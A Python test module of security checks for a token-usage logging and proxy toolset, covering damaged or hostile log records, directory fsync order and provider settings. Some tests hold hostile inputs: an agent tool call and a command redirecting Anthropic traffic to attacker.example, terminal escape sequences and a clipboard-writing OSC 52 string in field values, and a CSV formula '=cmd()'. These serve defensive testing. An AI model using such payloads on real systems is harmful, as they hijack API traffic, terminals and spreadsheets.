"""What is right in the cases of security/, after the READMEs of ../shared/cases."""

from __future__ import annotations

import datetime
import json
import re
import shutil
import subprocess
import threading

from case_room import (
    GEMINI,
    NOW,
    ROLLOUT,
    SECONDS,
    YEARS,
    NotRun,
    Room,
    User,
    check_of,
    claude_line,
    codex_count,
    codex_lines,
    conversation,
    gemini_lines,
    matches_in,
    names_line,
    nested_list,
    no_steering,
    no_traceback,
    refused_at_the_doors,
    turn,
)

# security/


def ok_after(room: Room, user: User, *commands: str) -> None:
    """None of the commands ends in a traceback (which User.run states)."""
    for command in commands:
        user.run(*command.split())


@check_of("security/damaged-line")
def damaged_line(room: Room) -> None:
    """The script runs reports after compact only; here they also meet the damage."""
    no_traceback(room, room.script())
    user = room.user()
    user.run("tok-log", "append", stdin="".join(f"{turn(f't{number}')}\n" for number in range(1, 6)).encode())
    day = user.log / "events/2026-11-20.jsonl"
    lines = day.read_bytes().splitlines(keepends=True)
    day.write_bytes(lines[0].replace(b',"model"', b'0"model"') + b"".join(lines[1:]))
    names_line(room, "tok-cat", user.run("tok-cat"), "2026-11-20.jsonl:1")
    room.equal("turns beside the damaged line", len(user.turns()), 4)
    since = "--since 2026-11-01"
    ok_after(
        room,
        user,
        f"tok-cost --log {since}",
        "tok-status --json",
        f"tok-score {since}",
        "tok-budget --spend",
        f"tok-dash --html - {since}",
    )
    rows = user.run("tok-cost", "--log", "--since", "2026-11-01", "--by", "none", "--json").records
    room.equal("turns of tok-cost", [row.get("turns") for row in rows], [4])
    user.run("tok-log", "compact")
    rejected = b"".join(path.read_bytes() for path in user.log.glob("rejected/*"))
    room.check(b'0"model"' in rejected, "compact does not move the damaged line to rejected/")
    room.equal("status of tok-cat after compact", user.run("tok-cat").status, 0)
    room.equal("turns after compact", len(user.turns()), 4)


@check_of("security/dash-origin")
def dash_origin(room: Room) -> None:
    ended = room.script()
    for match in matches_in(room, ended, r"a navigation from a foreign site: HTTP/1\.1 (\d+)", "the navigation"):
        room.check(
            match[1].startswith("4"), f"a navigation of a foreign site to a vendor's page is answered with {match[1]}"
        )


@check_of("security/deep-fields")
def deep_fields(room: Room) -> None:
    no_traceback(room, room.script())
    user = room.user()
    user.put(".claude/projects/-x/s.jsonl", claude_line("a"), claude_line("b", nested_list(1005)))
    deep = (codex_count(2000, 1000, nested_list(1005)), codex_count(3000, 1000, output=nested_list(1005)))
    user.put(ROLLOUT, *codex_lines(codex_count(1000, 1000), *deep))
    ended = user.run("tok-sync")
    names_line(room, "tok-sync", ended, "s.jsonl:2", "000000000001.jsonl:4", "000000000001.jsonl:5")
    room.check("[[[" not in ended.err, "tok-sync quotes the nested value")
    room.equal(
        "clients of the turns in the log", sorted(event["client"] for event in user.turns()), ["claude-code", "codex"]
    )


@check_of("security/directory-fsync")
def directory_fsync(room: Room) -> None:
    """The script prints what is synced; here its order is judged, with more system calls than it looks at."""
    if not shutil.which("strace"):
        raise NotRun("strace is not on this machine")
    user = room.user()
    append = system_calls(user, ["tok-log", "append"], turn("a1").encode())
    log, events = re.escape(str(user.log)), re.escape(str(user.log / "events"))
    acknowledged = next((at for at, call in enumerate(append) if call.startswith("write(1<")), len(append))
    made = [
        at for at, call in enumerate(append) if re.match(rf'(mkdir|rename)\w*\(.*"{log}/(events|salt|projects\.json)"', call)
    ]
    synced = [at for at, call in enumerate(append) if re.match(rf"f(data)?sync\(\d+<{log}>", call)]
    if not made:
        raise NotRun("strace shows no directory that append makes")
    durable = any(made[-1] < at < acknowledged for at in synced)
    room.check(durable, "append prints the id without a sync of the log's directory, in which events/ was made")
    compact = system_calls(user, ["tok-log", "compact", "--gzip"], b"")
    renamed = [at for at, call in enumerate(compact) if re.match(rf'rename\w*\(.*"{events}/[^"]*\.gz"', call)]
    unlinked = [at for at, call in enumerate(compact) if re.match(rf'unlink\w*\(.*"{events}/[^"]*\.jsonl"', call)]
    kept = [at for at, call in enumerate(compact) if re.match(rf"f(data)?sync\(\d+<{events}>", call)]
    if not renamed or not unlinked:
        raise NotRun("strace shows no file that compact replaces")
    safe = any(renamed[-1] < at < unlinked[0] for at in kept)
    room.check(safe, "compact removes the old file before the new one's rename is synced")


def system_calls(user: User, command: list[str], stdin: bytes) -> list[str]:
    """The system calls of a command that make, rename, remove and sync files, or write."""
    calls = "fsync,fdatasync,rename,renameat,renameat2,mkdir,mkdirat,unlink,unlinkat,write"
    trace = user.home / "trace"
    ended = user.run("strace", "-f", "-y", "-s", "300", "-e", f"trace={calls}", "-o", str(trace), *command, stdin=stdin)
    if not trace.exists() or ended.status != 0:
        raise NotRun(f"strace does not run here: {ended.err.strip()[-200:]}")
    return [re.sub(r"^\d+ +", "", line) for line in trace.read_text(errors="replace").splitlines() if "EEXIST" not in line]


@check_of("security/git-file-project")
def git_file_project(room: Room) -> None:
    ended = room.script()
    no_traceback(room, ended)
    for match in matches_in(room, ended, r"(\d+) characters: (.*)", "the project"):
        room.check(match[2] == "'unpacked'", f"the project has {match[1]} characters: {match[2]}, right is 'unpacked'")
    if shutil.which("git"):  # the path of another project of the user: only a repository that lists the worktree owns it
        user = room.user()
        user.run("git", "init", "-q", "victim")
        user.put("unpacked/.git", f"gitdir: {user.home}/victim/.git/worktrees/x")
        user.put(".claude/projects/-x/s.jsonl", claude_line("a", cwd=f"{user.home}/unpacked"))
        projects = [event["project"] for event in user.turns("tok-read")]
        room.equal("project of a folder that names a repository which does not list it", projects, ["unpacked"])


BAD_LINES = {
    "v true": turn("bad").replace('"v":1', '"v":true'),
    "v 1.0": turn("bad").replace('"v":1', '"v":1.0'),
    "a status nested 300 deep": turn("bad")[:-1] + f',"status":{nested_list(300)}}}',
    "a status nested 1,010 deep": turn("bad")[:-1] + f',"status":{nested_list(1010)}}}',
    "10^400 tokens": turn("bad").replace('"output_tokens":7', f'"output_tokens":1{"0" * 400}'),
    **{year: turn("bad", time) for year, time in YEARS.items()},
}


@check_of("security/hostile-import")
def hostile_import(room: Room) -> None:
    for match in matches_in(
        room, room.script(), r"(.*): status (\d+), (\d+) traceback, good line taken: (\d+)", "the imports"
    ):
        room.equal(f"import of {match[1]}: status, tracebacks, good lines", match.group(2, 3, 4), ("1", "0", "1"))
    refused_at_the_doors(room, BAD_LINES)


@check_of("security/idle-connections")
def idle_connections(room: Room) -> None:
    """A further request is answered (or refused with 503) within 4 s; stderr and the processor stay quiet."""
    ended = room.script()
    for match in matches_in(
        room, ended, r"a further request: b(.*) after (\d+) s; ([\d.]+) MB on stderr; (\d+) s of processor", "the request"
    ):
        room.check("'HTTP/1.1 " in match[1], f"a further request gets {match[1]} after {match[2]} s")
        room.check(float(match[3]) < 0.1, f"{match[3]} MB on stderr")
        room.check(int(match[4]) <= 3, f"{match[4]} s of processor")


@check_of("security/import-projects")
def import_projects(room: Room) -> None:
    no_traceback(room, room.script())
    other = room.user()
    other.put("foreign/events/2026-11-20.jsonl", turn("x"))
    other.put(
        "foreign/projects.json",
        {"a": 5, "abcdef012345": "/" + "x" * (1 << 20), "abcdef012346": ["/x"], "abcdef012347": "/home/ada/loom"},
    )
    other.run("tok-log", "import", str(other.home / "foreign"))
    path = other.log / "projects.json"
    kept = json.loads(path.read_text()) if path.exists() else {}
    room.check("a" not in kept and "abcdef012345" not in kept and "abcdef012346" not in kept, f"import keeps {sorted(kept)}")
    room.check(kept.get("abcdef012347") == "/home/ada/loom", "import does not take in the good path beside the bad ones")
    damaged = room.user()
    damaged.run("tok-log", "append", stdin=turn("x").encode())
    damaged.log.joinpath("projects.json").write_text('{"a":5}')
    ok_after(
        room, damaged, "tok-cat", "tok-cost --log --since 2026-11-01", "tok-status --json", "tok-sync", "tok-dash --html -"
    )
    damaged.log.joinpath("projects.json").write_text('{"a":5}')
    verified = damaged.run("tok-log", "verify")
    room.check("projects.json" in verified.out + verified.err, "tok-log verify does not name a damaged projects.json")


@check_of("security/link-stops-sync")
def link_stops_sync(room: Room) -> None:
    ended = room.script()
    no_traceback(room, ended)
    for match in matches_in(room, ended, r"status (\d+)\n\s*(\d+)", "status and turns"):
        room.check(match[1] in "01", f"status of tok-sync: {match[1]}, right is 0 or 1")
        room.equal("turns in the log", match[2], "1")
    room.check("x.jsonl" in ended.err + ended.out, "tok-sync does not note the link")


@check_of("security/mcp-provider-set")
def mcp_provider_set(room: Room) -> None:
    """Where nothing is written the script fails, for it opens config.yaml; only what it prints is judged."""
    ended = room.script()
    room.check("attacker.example" not in ended.out, "an agent's tool call sends anthropic's traffic to attacker.example")
    if ended.status != 0:
        room.check(
            "config.yaml" in ended.err and "FileNotFoundError" in ended.err, f"the script fails: {ended.err.strip()[-150:]}"
        )
    user = room.user()
    call = {"name": "tokenops_provider_set", "arguments": {"provider": "anthropic", "url": "http://attacker.example/"}}
    answers = conversation(user, ["--tools", "all"], ("tools/call", call))
    room.check("tok-provider set" in json.dumps(answers.get(1)), "the tool does not give the command that the user can run")

    def written() -> str:
        return "".join(path.read_text() for path in user.home.rglob("config.yaml"))

    refused = user.run("tok-provider", "set", "anthropic", "http://attacker.example/")
    room.check(
        refused.status != 0 and "attacker" not in written(),
        "tok-provider set takes plain http to another machine without a flag",
    )
    accepted = user.run("tok-provider", "set", "anthropic", "https://gateway.example/")
    room.check(accepted.status == 0 and "gateway.example" in written(), "tok-provider set refuses https to another machine")
    with subprocess.Popen(
        ["tok-proxy", "--port", "0"], env=user.environment(), stdin=subprocess.DEVNULL, stderr=subprocess.PIPE
    ) as process:
        assert process.stderr is not None
        timer = threading.Timer(SECONDS, process.kill)
        timer.start()
        said = b""
        while b"listening" not in said and (line := process.stderr.readline()):
            said += line
        process.terminate()
        said += process.stderr.read()
        timer.cancel()
    room.check(b"gateway.example" in said, "tok-proxy does not say at its start that anthropic does not lead to its vendor")


@check_of("security/metering-bombs")
def metering_bombs(room: Room) -> None:
    """One second, as in proxy/gzip-stalls-all: the script's own clients share the processors with the proxy."""
    for match in matches_in(room, room.script(), r"others waited up to ([\d.]+) s; VmHWM:\s*(\d+) kB", "waits and memory"):
        room.check(float(match[1]) < 1, f"others waited up to {match[1]} s, right is below 1 s")
        room.check(int(match[2]) < 200_000, f"{int(match[2]) // 1000} MB of memory, right is below 200 MB")


@check_of("security/metering-cuts-traffic")
def metering_cuts_traffic(room: Room) -> None:
    ended = room.script()
    for pattern, right, what in (
        (r"words that arrive, of 5: (.*)", "5", "words that arrive, of 5"),
        (r"the WebSocket message after it arrives: (.*)", "True", "the WebSocket message after it arrives"),
        (r"ordinary turns written, of 30: (\d+)", "30", "ordinary turns written, of 30"),
        (r"tracebacks: (\d+)", "0", "tracebacks"),
        (r"says: (\w+)", "False", "it says that events are kept in memory"),
    ):
        for match in matches_in(room, ended, pattern, what):
            room.equal(what, match[1], right)


@check_of("security/pip-in-cwd")
def pip_in_cwd(room: Room) -> None:
    ended = room.script()
    room.check("the repository's file was run" not in ended.out, "pip of the working directory is run")
    no_traceback(room, ended)


@check_of("security/poison-record")
def poison_record(room: Room) -> None:
    no_traceback(room, room.script())
    time = "2026-11-20T09:00:00.000Z"
    meter = {
        "v": 1,
        "ts": time,
        "kind": "meter",
        "id": "m",
        "source": "proxy",
        "provider": "anthropic",
        "window": "five_hour",
    }
    meter |= {"used": 0.5, "observed_at": time}
    task = {"v": 1, "ts": time, "kind": "task", "id": "k", "source": "test", "client": "codex", "task": ["x"]}
    saving = {"v": 1, "ts": time, "kind": "saving", "id": "s", "source": "test", "saved_tokens": None}
    refused_at_the_doors(
        room,
        {
            "10^400 tokens": BAD_LINES["10^400 tokens"],
            "window_minutes of 10^30": json.dumps(meter | {"window_minutes": 10**30}),
            "a credential that is a list": turn("bad")[:-1] + ',"credential":["x"]}',
            "a task that is a list": json.dumps(task),
            "saved_tokens of null": json.dumps(saving),
        },
    )


@check_of("security/terminal-escapes")
def terminal_escapes(room: Room) -> None:
    """The script prints a dump of tok-cost's table; here the other commands are looked at as well, and CSV."""
    shown = room.script()
    # od -c: \a is BEL, \r CR; three octal digits are a byte that cannot be printed.
    octal = re.findall(
        r"(?<= )(?:[0-3][0-7]{2}|\\[abfrv0])(?= |$)", "\n".join(line[7:] for line in shown.out.splitlines()), re.MULTILINE
    )
    text = " ".join(octal)
    for bytes_, name in (("033", "ESC"), (r"\a", "BEL"), (r"\r", "CR"), ("342 200 256", "U+202E"), ("302 233", "U+009B")):
        room.check(bytes_ not in text, f"tok-cost passes on {name}")
    name = "\x1b]0;owned\x07\x1b[31m\u202e\u009b1m\rx\x1b]52;c;x\x07"
    user = room.user()
    stamp = (datetime.datetime.fromisoformat(NOW) - datetime.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    lines = [
        json.dumps(
            json.loads(turn("a", stamp)) | {"project": name, "model": name, "agent_id": f"test:{name}", "session_id": name}
        )
    ]
    lines += [json.dumps(json.loads(turn("b", stamp)) | {"project": "=cmd()"})]
    user.run("tok-log", "append", stdin="\n".join(lines).encode())
    for command in (
        "tok-cost --log --table",
        "tok-cost --log --by model --table",
        "tok-cost --log --by session --markdown",
        "tok-task --table",
        "tok-burn --log --table",
        "tok-status --table",
        "tok-log verify",
        "tok-sync --table",
    ):
        ended = user.run(*command.split())
        no_steering(room, command, ended.out, ended.err)
    cells = user.run("tok-cost", "--log", "--csv").out
    room.check(not re.search(r'(?m)(^|,)"?[=+@-](?=[^\d.,"\s])', cells), "a cell of tok-cost --csv begins a formula")


@check_of("security/zero-time")
def zero_time(room: Room) -> None:
    no_traceback(room, room.script())
    user = room.user()
    zero = "0001-01-01T00:00:00Z"
    user.put(".claude/projects/-x/s.jsonl", claude_line("a"), claude_line("b", json.dumps(zero)))
    user.put(ROLLOUT, *codex_lines(codex_count(1000, 1000), codex_count(2000, 1000, json.dumps(zero))))
    user.put(GEMINI, *gemini_lines("2026-11-20T10:00:02.000Z", zero))
    names_line(room, "tok-sync", user.run("tok-sync"), "s.jsonl:2", "000000000001.jsonl:4", "aaaaaaaa.jsonl:3")
    clients = sorted(event["client"] for event in user.turns())
    room.equal("clients of the turns in the log", clients, ["claude-code", "codex", "gemini-cli"])
    ok_after(room, user, "tok-cost --log --since 2026-11-01", "tok-status --json", "tok-budget")
